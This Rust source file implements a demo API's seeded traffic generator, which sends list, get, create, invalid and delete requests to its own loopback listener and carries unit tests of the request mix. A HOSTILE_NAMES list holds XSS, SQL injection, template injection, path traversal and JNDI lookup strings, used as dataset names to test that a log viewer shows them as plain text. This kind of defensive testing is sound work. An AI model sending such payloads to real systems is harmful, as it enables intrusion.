//! Built-in users of the API. They call our own listener over real HTTP, so every metric and log
//! line comes from a real request travelling through the same stack a scrape would see.
//!
//! Requests start on a fixed clock and each runs in its own task: a latency spike slows the
//! answers but not the rate, which the seed's latency rule needs to see many slow requests.

use std::collections::BTreeSet;
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use rand::rngs::StdRng;
use rand::{RngExt, SeedableRng};
use reqwest::StatusCode;
use tokio::sync::watch;
use tokio::task::JoinSet;

use crate::datasets::{SEEDED_COUNT, id_number};
use crate::http::{DATASETS_ROUTE, DatasetList, USER_HEADER};

/// Bounds the tasks a stuck server can pile up; far above the ~15 a latency spike needs at 5/s.
const MAX_IN_FLIGHT: usize = 256;
const REQUEST_TIMEOUT: Duration = Duration::from_secs(30);

const NAMES: &[&str] = &[
    "clickstream",
    "売上明細",
    "iot-telemetry",
    "顧客マスタ",
    "support-tickets",
    "ログ集計",
    "feature-store",
    "音声コーパス",
    "churn-labels",
    "在庫スナップショット",
];

/// Names a log viewer must show as text: if any of these runs, renders or escapes, it is a bug.
pub const HOSTILE_NAMES: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert('xss')>",
    "Robert'); DROP TABLE datasets;--",
    "{{constructor.constructor('alert(1)')()}}",
    "\u{1b}[31mred alert\u{1b}[0m",
    "line one\nline two",
    "../../etc/passwd",
    "${jndi:ldap://example.invalid/a}",
    "\"quoted\" & <b>bold</b>",
];

/// Bodies the API must answer with 422.
const INVALID_BODIES: &[&str] = &[
    r#"{"size_bytes": 1024}"#,
    r#"{"name": "   "}"#,
    r#"{"name": "negative", "size_bytes": -5}"#,
    r#"{"name": 42}"#,
    "not json at all",
];

#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Call {
    List,
    Get(String),
    GetMissing(String),
    Create { name: String, size_bytes: u64 },
    CreateInvalid(&'static str),
    Delete(String),
}

pub struct TrafficOptions {
    /// Where our own listener answers, e.g. `http://127.0.0.1:18000`.
    pub base_url: String,
    pub requests_per_second: f64,
    pub seed: u64,
}

/// Ids the clients have seen, so they mostly ask for datasets that exist.
type KnownIds = Arc<Mutex<BTreeSet<String>>>;

pub async fn run(options: TrafficOptions, mut shutdown: watch::Receiver<bool>) {
    if !(options.requests_per_second > 0.0 && options.requests_per_second.is_finite()) {
        return;
    }
    let client = match reqwest::Client::builder()
        // The target is always our own loopback listener; a proxy from the environment would
        // only get in the way.
        .no_proxy()
        .timeout(REQUEST_TIMEOUT)
        .user_agent(concat!("hinomi-demo-traffic/", env!("CARGO_PKG_VERSION")))
        .build()
    {
        Ok(client) => client,
        Err(error) => {
            eprintln!("hinomi-demo-api: traffic generator disabled: {error}");
            return;
        }
    };
    let base_url: Arc<str> = options.base_url.trim_end_matches('/').into();
    let known: KnownIds = Arc::default();
    let mut rng = StdRng::seed_from_u64(options.seed);
    let mut in_flight = JoinSet::new();
    let mut interval =
        tokio::time::interval(Duration::from_secs_f64(1.0 / options.requests_per_second));
    interval.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);

    loop {
        tokio::select! {
            _ = interval.tick() => {}
            _ = shutdown.changed() => break,
        }
        while in_flight.try_join_next().is_some() {}
        if in_flight.len() >= MAX_IN_FLIGHT {
            continue;
        }
        let call = {
            let known: Vec<String> = lock(&known).iter().cloned().collect();
            choose_call(&mut rng, &known)
        };
        let user = choose_user(&mut rng);
        in_flight.spawn(perform(
            client.clone(),
            base_url.clone(),
            call,
            user,
            known.clone(),
        ));
    }
    in_flight.shutdown().await;
}

/// Picks the next request: mostly reads, some writes, a few 404s and 422s. Deletes only touch
/// datasets created after the seeded ones, and grow more likely as those pile up, which keeps
/// the store (and the `dataset_size_bytes` series) near its starting size after a growth spurt.
pub fn choose_call(rng: &mut StdRng, known: &[String]) -> Call {
    let removable: Vec<&String> = known
        .iter()
        .filter(|id| id_number(id).is_some_and(|n| n > SEEDED_COUNT))
        .collect();
    let delete_weight = if removable.is_empty() {
        0
    } else {
        (4 + removable.len().saturating_sub(6)).min(30)
    };
    let get_weight = if known.is_empty() { 0 } else { 30 };
    let weights = [35, get_weight, 4, 14, 3, delete_weight];
    let mut pick = rng.random_range(0..weights.iter().sum::<usize>());
    let mut choice = 0;
    for (index, weight) in weights.iter().enumerate() {
        if pick < *weight {
            choice = index;
            break;
        }
        pick -= weight;
    }
    match choice {
        1 => Call::Get(known[rng.random_range(0..known.len())].clone()),
        2 => Call::GetMissing(format!("ds-{}", rng.random_range(90_000..100_000))),
        3 => {
            let name = if rng.random_bool(0.08) {
                HOSTILE_NAMES[rng.random_range(0..HOSTILE_NAMES.len())].to_owned()
            } else {
                let base = NAMES[rng.random_range(0..NAMES.len())];
                format!("{base}-{:04}", rng.random_range(0..10_000))
            };
            let size_bytes = rng.random_range(1..=8_192) * 1024 * 1024;
            Call::Create { name, size_bytes }
        }
        4 => Call::CreateInvalid(INVALID_BODIES[rng.random_range(0..INVALID_BODIES.len())]),
        5 => Call::Delete(removable[rng.random_range(0..removable.len())].clone()),
        _ => Call::List,
    }
}

fn choose_user(rng: &mut StdRng) -> String {
    if rng.random_bool(0.4) {
        "user123".to_owned()
    } else {
        format!("user{:03}", rng.random_range(1..=60))
    }
}

async fn perform(
    client: reqwest::Client,
    base_url: Arc<str>,
    call: Call,
    user: String,
    known: KnownIds,
) {
    let collection = format!("{base_url}{DATASETS_ROUTE}");
    let request = match &call {
        Call::List => client.get(&collection),
        Call::Get(id) | Call::GetMissing(id) => client.get(format!("{collection}/{id}")),
        Call::Create { name, size_bytes } => client
            .post(&collection)
            .json(&serde_json::json!({ "name": name, "size_bytes": size_bytes })),
        Call::CreateInvalid(body) => client
            .post(&collection)
            .header(reqwest::header::CONTENT_TYPE, "application/json")
            .body(*body),
        Call::Delete(id) => client.delete(format!("{collection}/{id}")),
    };
    // Errors are expected while the server shuts down or a fault is active; the server has
    // already logged and counted whatever it answered.
    let Ok(response) = request.header(USER_HEADER, user).send().await else {
        return;
    };
    let status = response.status();
    match call {
        Call::List if status == StatusCode::OK => {
            if let Ok(list) = response.json::<DatasetList>().await {
                *lock(&known) = list.datasets.into_iter().map(|d| d.id).collect();
            }
        }
        Call::Create { .. } if status == StatusCode::CREATED => {
            if let Ok(dataset) = response.json::<crate::datasets::Dataset>().await {
                lock(&known).insert(dataset.id);
            }
        }
        Call::Get(id) | Call::Delete(id)
            if status == StatusCode::NOT_FOUND || status == StatusCode::NO_CONTENT =>
        {
            lock(&known).remove(&id);
        }
        _ => {}
    }
}

fn lock(known: &KnownIds) -> std::sync::MutexGuard<'_, BTreeSet<String>> {
    known.lock().unwrap_or_else(PoisonError::into_inner)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn seeded_ids() -> Vec<String> {
        (1..=8).map(|n| format!("ds-{n:03}")).collect()
    }

    #[test]
    fn without_known_ids_only_lists_creates_and_misses_happen() {
        let mut rng = StdRng::seed_from_u64(5);
        for _ in 0..1_000 {
            let call = choose_call(&mut rng, &[]);
            assert!(
                !matches!(call, Call::Get(_) | Call::Delete(_)),
                "unexpected {call:?}"
            );
        }
    }

    #[test]
    fn seeded_datasets_are_never_deleted() {
        let mut rng = StdRng::seed_from_u64(6);
        let known = seeded_ids();
        for _ in 0..2_000 {
            assert!(!matches!(choose_call(&mut rng, &known), Call::Delete(_)));
        }
    }

    #[test]
    fn deletes_grow_more_likely_as_extra_datasets_pile_up() {
        let count_deletes = |extra: u64| {
            let mut rng = StdRng::seed_from_u64(7);
            let mut known = seeded_ids();
            known.extend((100..100 + extra).map(|n| format!("ds-{n:03}")));
            (0..5_000)
                .filter(|_| matches!(choose_call(&mut rng, &known), Call::Delete(_)))
                .count()
        };
        let few = count_deletes(2);
        let many = count_deletes(200);
        assert!(few > 0);
        assert!(many > few * 4, "few={few} many={many}");
    }

    #[test]
    fn mix_is_mostly_reads_and_repeats_with_the_seed() {
        let known = seeded_ids();
        let calls = |seed| {
            let mut rng = StdRng::seed_from_u64(seed);
            (0..2_000)
                .map(|_| choose_call(&mut rng, &known))
                .collect::<Vec<_>>()
        };
        let first = calls(11);
        assert_eq!(first, calls(11));
        let reads = first
            .iter()
            .filter(|c| matches!(c, Call::List | Call::Get(_)))
            .count();
        assert!((1_400..1_620).contains(&reads), "reads={reads}");
        assert!(first.iter().any(|c| matches!(c, Call::CreateInvalid(_))));
        assert!(first.iter().any(|c| matches!(c, Call::GetMissing(_))));
        assert!(first.iter().any(
            |c| matches!(c, Call::Create { name, .. } if HOSTILE_NAMES.contains(&name.as_str()))
        ));
    }
}
